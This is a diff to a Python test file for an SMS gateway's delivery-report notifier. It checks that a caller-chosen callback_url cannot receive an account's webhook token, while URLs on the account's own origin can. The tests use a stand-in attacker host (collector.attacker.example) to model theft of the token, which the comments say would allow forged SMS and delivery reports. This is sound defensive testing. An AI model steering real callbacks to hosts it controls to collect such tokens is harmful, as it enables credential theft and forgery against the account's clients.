@@ -608,41 +608,48 @@ def test_a_blackholed_origin_fails_its_sixth_notification_at_once_while_another_
     assert record_of(b, "dlr_7_3") is None
 
 
-# ---------------------------------------------------------------- review (session 31, rnotify)
+# ---------------------------------------------------------------- a batch's own callback_url
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="review: a send's callback_url, chosen by any API caller, receives the account's sealed webhook token",
-)
-def test_a_batch_callback_url_chosen_by_the_caller_never_receives_the_accounts_webhook_token(aws, accounts, webhook):
+def report_to_callback_url(env: dict[str, str], account: dict[str, Any], callback_url: str) -> None:
+    """Sends a batch with delivery reports to `callback_url` with the account's API token, and reports a status change
+    of its message through the notifier."""
     from sms_gateway.bootstrap import gateway
     from sms_gateway.domain.models import StatusChange
     from sms_gateway.logic.notify import dlr_notification
 
+    body = {"from": "48974", "to": ["2348020000000"], "body": "hi", "delivery_report": "yes"}
+    status, answer = api("POST", "/ng/v1/sendsms", account["token"], body={**body, "callback_url": callback_url})
+    assert status == 200, answer
+    [message] = gateway().store.list_messages(account["account_id"], int(answer["reference_id"]))[0]
+    publish(dlr_notification(StatusChange(message=message, changed=True)))
+    run_notifier(env)
+
+
+def test_a_batch_callback_url_chosen_by_the_caller_never_receives_the_accounts_webhook_token(aws, accounts, webhook):
     # Given an account whose webhook token is sealed, shown once at creation, and never readable again
     account = accounts["a"]
     hook = webhook()
-    # When anyone holding one of its API tokens sends a batch with delivery reports to a URL of their own
-    status, answer = api(
-        "POST",
-        "/ng/v1/sendsms",
-        account["token"],
-        body={
-            "from": "48974",
-            "to": ["2348020000000"],
-            "body": "hi",
-            "delivery_report": "yes",
-            "callback_url": "https://collector.attacker.example/dlr",
-        },
-    )
-    assert status == 200, answer
-    [message] = gateway().store.list_messages(account["account_id"], int(answer["reference_id"]))[0]
-    # And a status change of its message is reported
-    publish(dlr_notification(StatusChange(message=message, changed=True)))
-    run_notifier(aws)
+    # When anyone holding one of its API tokens sends a batch with delivery reports to a URL of their own, and a
+    # status change of its message is reported
+    report_to_callback_url(aws, account, "https://collector.attacker.example/dlr")
     # Then that URL got the report, but not the account's webhook token (which authenticates the gateway to the
     # client's real webhooks: with it, anyone can forge inbound SMS and delivery reports to them)
     [post] = hook.posts
     assert post["url"] == "https://collector.attacker.example/dlr"
     assert account["webhook_token"] not in post["headers"].get("Authorization", "")
+    # And it is signed with the account's secret, so its receiver can tell it is ours
+    assert post["headers"]["webhook-signature"].startswith("v1,")
+
+
+def test_batch_callback_urls_on_the_accounts_own_webhook_origin_get_the_token_as_its_dlr_url(aws, accounts, webhook):
+    # Given an account whose DLR URL is https://client.example/dlr, and batches whose reports go to other URLs of
+    # that origin (an endpoint per campaign), however the origin is written
+    account, hook = accounts["a"], webhook()
+    own = ["https://client.example:443/campaigns/7/dlr", "https://CLIENT.example/dlr?batch=8"]
+    for url in own:
+        report_to_callback_url(aws, account, url)
+    # Then each post carries the webhook token (and is signed)
+    bearer = f"Bearer {account['webhook_token']}"
+    assert [(post["url"], post["headers"]["Authorization"]) for post in hook.posts] == [(url, bearer) for url in own]
+    assert all("webhook-signature" in post["headers"] for post in hook.posts)
